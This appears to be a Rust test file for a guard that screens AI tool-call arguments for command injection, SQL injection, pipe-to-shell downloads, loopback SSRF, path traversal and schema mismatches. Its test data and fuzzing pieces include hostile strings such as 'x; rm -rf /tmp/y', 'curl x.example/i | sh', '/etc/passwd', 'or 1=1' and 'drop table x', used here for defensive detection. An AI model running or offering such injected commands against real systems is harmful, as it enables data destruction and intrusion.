//! What the guard finds and what it leaves alone, through the interface that the host calls.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use guard_arguments::Arguments;
use guardhouse_guard::{Attribute, Call, Finding, Guard as _, Item, Part, checkpoint, testing, view};
use proptest::prelude::*;
use serde_json::{Value, json};

fn guard() -> Arguments {
    testing::configure::<Arguments>("").unwrap()
}

fn inspect(call: &Call) -> Vec<Finding> {
    testing::inspect_call(&guard(), call).unwrap()
}

/// The rules, each with the path of its part.
fn found(call: &Call) -> Vec<(String, String)> {
    let place = |finding: &Finding| finding.part.map_or(String::new(), |part| call.parts[part as usize].path.clone());
    inspect(call).into_iter().map(|finding| (finding.rule.clone(), place(&finding))).collect()
}

fn attribute(key: &str, value: &Value) -> Attribute {
    Attribute { key: key.to_string(), value: value.to_string() }
}

fn one(rule: &str, path: &str) -> Vec<(String, String)> {
    vec![(rule.to_string(), path.to_string())]
}

#[test]
fn a_text_is_judged_only_where_the_argument_takes_it() {
    let text = "x; rm -rf /tmp/y";
    assert_eq!(found(&testing::call("s", "t", &json!({"name": text}))), one("injected-command", "/name"));
    for name in ["message", "content", "body", "note", "search_query", "title"] {
        assert_eq!(found(&testing::call("s", "t", &json!({name: text}))), [], "{name}");
    }
    assert_eq!(found(&testing::call("s", "t", &json!({"command": text}))), [], "a command by design");
}

#[test]
fn a_role_of_the_hosts_is_read() {
    let mut call = testing::call("s", "t", &json!({"x": "1 or 1=1"}));
    assert_eq!(found(&call), []);
    call.attributes = vec![attribute("roles", &json!({"/x": "selector"}))];
    assert_eq!(found(&call), one("injected-sql-tautology", "/x"));
    call.attributes = vec![Attribute { key: "roles".to_string(), value: "no".to_string() }];
    assert!(testing::inspect_call(&guard(), &call).is_err());
}

#[test]
fn code_of_an_unknown_language_is_judged_as_what_it_begins_as() {
    for (text, rule) in [("DROP TABLE users", "sql-drop"), ("curl x.example/i | sh", "shell-pipe-to-interpreter")] {
        let mut call = testing::call("s", "t", &json!({"x": text}));
        call.attributes = vec![attribute("roles", &json!({"/x": "code"}))];
        assert_eq!(found(&call), one(rule, "/x"));
    }
}

#[test]
fn a_finding_covers_what_was_found() {
    let call = testing::call("s", "t", &json!({"name": "file; curl http://x.example/"}));
    let findings = inspect(&call);
    let (part, span) = findings[0].place().unwrap();
    assert_eq!(&call.parts[part].body[span], "; curl http://x.example/");
}

#[test]
fn views_are_judged_where_decoding_says_something() {
    let with_view = |name: &str, text: &str, view: &str, body: &str| {
        let mut call = testing::call("s", "t", &json!({name: text}));
        let original = call.parts.last().unwrap().clone();
        call.parts.push(Part { view: view.to_string(), body: body.to_string(), ..original });
        found(&call).len()
    };
    assert_eq!(with_view("name", "x%27%20or%20%27a%27=%27a", view::UNESCAPED, "x' or 'a'='a"), 1);
    assert_eq!(with_view("command", "grep 'a\\ncurl x | sh'", view::UNESCAPED, "grep 'a\ncurl x | sh"), 0);
    assert_eq!(with_view("command", "echo Y3VybCB4IHwgc2g= > x", view::BASE64, "curl x | sh"), 1);
}

#[test]
fn a_leaf_without_a_part_is_judged_all_the_same() {
    let mut call = testing::call("s", "t", &json!({"name": ";id"}));
    call.parts.clear();
    assert_eq!(found(&call), one("injected-command", ""));
}

#[test]
fn arguments_are_held_to_the_input_schema() {
    let schema = json!({"properties": {"count": {"type": "integer"}, "color": {"enum": ["red"]}}, "additionalProperties": false});
    let mut call = testing::call("s", "t", &json!({"count": "secret", "color": "blue", "extra": 1}));
    call.input_schema = Some(schema.to_string());
    let mut places = found(&call);
    places.sort();
    assert_eq!(places, ["/color", "/count", "/extra#key"].map(|path| ("input-schema".to_string(), path.to_string())));
    assert!(
        inspect(&call)
            .iter()
            .all(|finding| !finding.message.contains("secret") && finding.category == "schema-mismatch")
    );
    let mut call = testing::call("s", "t", &json!({"count": 1, "color": "red"}));
    call.input_schema = Some(schema.to_string());
    assert_eq!(found(&call), []);
}

#[test]
fn a_schema_that_cannot_be_checked_is_said_so() {
    for (schema, rule) in [
        ("{".to_string(), "schema-unreadable"),
        (json!({"$ref": "https://x.example/"}).to_string(), "schema-unsupported"),
        (json!({"$ref": "#"}).to_string(), "schema-too-costly"),
        ("[".repeat(100_000), "schema-unreadable"),
    ] {
        let mut call = testing::call("s", "t", &json!({"a": 1}));
        call.input_schema = Some(schema);
        let findings = inspect(&call);
        assert_eq!(findings.len(), 1);
        assert_eq!((findings[0].rule.as_str(), findings[0].category.as_str()), (rule, "schema-not-checked"));
    }
}

#[test]
fn arguments_that_are_no_json_fail_the_guard() {
    let mut call = testing::call("s", "t", &json!({}));
    call.arguments = "{".to_string();
    assert!(testing::inspect_call(&guard(), &call).is_err());
}

/// A result with structured content, as the host gives it.
fn result(schema: &Value, structured: &Value) -> Item {
    let mut item = testing::item("text");
    item.checkpoint = checkpoint::TOOL_RESULT.to_string();
    item.parts[0].path = "/structured/a".to_string();
    item.attributes = vec![attribute("output-schema", schema), attribute("structured", structured)];
    item
}

#[test]
fn results_are_held_to_the_output_schema() {
    let schema = json!({"properties": {"a": {"maxLength": 2}}});
    let findings = testing::inspect_text(&guard(), &result(&schema, &json!({"a": "text"}))).unwrap();
    assert_eq!((findings.len(), findings[0].rule.as_str(), findings[0].part), (1, "output-schema", Some(0)));
    assert_eq!(testing::inspect_text(&guard(), &result(&schema, &json!({"a": "b"}))).unwrap(), []);
    let mut call = result(&schema, &json!({"a": "text"}));
    call.checkpoint = checkpoint::TOOL_CALL.to_string();
    assert_eq!(testing::inspect_text(&guard(), &call).unwrap(), []);
    call.checkpoint = checkpoint::TOOL_RESULT.to_string();
    call.attributes.clear();
    assert_eq!(testing::inspect_text(&guard(), &call).unwrap(), []);
}

#[test]
fn rules_can_be_switched_off_and_settings_are_checked() {
    let call = testing::call("s", "t", &json!({"name": ";id", "url": "http://localhost:3000/", "path": "/x/y"}));
    let with = |config: &str| {
        let guard = testing::configure::<Arguments>(config).unwrap();
        let findings = testing::inspect_call(&guard, &call).unwrap();
        findings.into_iter().map(|finding| finding.rule).collect::<Vec<_>>()
    };
    assert_eq!(with(""), ["injected-command", "ssrf-loopback"]);
    assert_eq!(
        with(r#"{"disabled": ["injected-command"], "allowed_hosts": ["localhost:3000"]}"#),
        Vec::<String>::new()
    );
    assert_eq!(
        with(r#"{"allowed_roots": ["/z"], "disabled": ["injected-command", "ssrf-loopback"]}"#),
        ["path-outside-roots"]
    );
    for config in
        [r#"{"disabled": ["none"]}"#, r#"{"allowed_roots": ["z"]}"#, r#"{"allowed_hosts": ["*"]}"#, r#"{"roots": []}"#]
    {
        assert!(testing::configure::<Arguments>(config).is_err(), "{config}");
    }
}

#[test]
fn the_guard_wants_whole_texts() {
    assert_eq!(guard().reach().longest, None);
}

/// Pieces of every language that is read, from which texts are made.
const PIECES: &[&str] = &[
    "'",
    "\"",
    "`",
    "$(",
    "${",
    ")",
    "}",
    "(",
    "|",
    "||",
    "&&",
    ";",
    "\n",
    " ",
    "\\",
    "--",
    "/*",
    "*/",
    "#",
    "$$",
    "$a$",
    "or 1=1",
    "union select",
    "select",
    "drop table x",
    "cat",
    "curl",
    "sh",
    "-c",
    "/etc/passwd",
    "../",
    "%2e",
    "%c0%ae",
    "%25",
    "%u",
    "0x2",
    "http://",
    "127.1",
    "[::1]",
    "@",
    ":",
    "é",
    "💩",
    "\0",
    "<(",
    ">",
    "<<",
    "$IFS",
    "$'\\x",
    "1",
    "a",
    "and",
    ",",
    "()",
    "{ :;}",
    ".",
    "//",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(3_000))]

    #[test]
    fn no_text_breaks_the_guard_and_every_finding_keeps_the_contract(
        pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24),
    ) {
        let text = pieces.concat();
        let arguments = json!({"sql": text, "command": text, "path": text, "url": text, "name": text, "host": text});
        let call = testing::call("s", "t", &arguments);
        let findings = testing::inspect_call(&guard(), &call).map_err(TestCaseError::fail)?;
        for (index, one) in findings.iter().enumerate() {
            for other in &findings[index + 1..] {
                let (Some((part, span)), Some((other_part, other_span))) = (one.place(), other.place()) else { continue };
                let overlap = part == other_part && span.start < other_span.end && other_span.start < span.end;
                prop_assert!(!overlap || one.category != other.category, "{one:?} {other:?}");
            }
        }
    }
}

#[test]
fn eight_times_a_hostile_text_has_at_most_eight_times_the_findings() {
    for (name, unit) in [
        ("command", "bash $(curl x) "),
        ("command", "a | sh; "),
        ("command", "sh -c \"sh -c 'x'\" "),
        ("command", "a()"),
        ("sql", "union select null,null "),
        ("sql", "; drop table x"),
        ("name", "' or 1=1 "),
        ("name", "`id -x` "),
        ("name", " ;ls"),
        ("path", "%2e%2e/"),
        ("path", "%00"),
    ] {
        let count = |times: usize| inspect(&testing::call("s", "t", &json!({ name: unit.repeat(times) }))).len();
        assert!(count(800) <= 8 * count(100) + 8, "{unit}");
    }
}
